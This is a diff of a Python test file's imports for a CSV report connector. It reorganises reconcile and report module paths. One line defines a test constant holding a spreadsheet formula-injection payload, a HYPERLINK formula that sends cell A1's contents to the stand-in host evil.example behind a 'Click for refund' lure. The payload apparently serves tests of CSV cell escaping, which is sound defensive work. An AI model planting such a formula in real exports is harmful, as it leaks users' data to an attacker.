@@ -22,13 +22,14 @@ from connector_render_csv.plugin import CsvRenderer
 
 from connector.contracts import SinkContext, csv_cell
 from connector.domain.report_rounding import Figures
-from connector.pipeline import reconcile_report, report_output
-from connector.pipeline.reconcile import (
+from connector.pipeline.reconcile import report as reconcile_report
+from connector.pipeline.reconcile.reconcile import (
     CustomerReconciliation,
     Reconciliation,
     UnassignedAccount,
 )
-from connector.pipeline.report import ReportRow, ReportTotal
+from connector.pipeline.report import output as report_output
+from connector.pipeline.report.report import ReportRow, ReportTotal
 from tests.factories import make_statement
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for refund")'
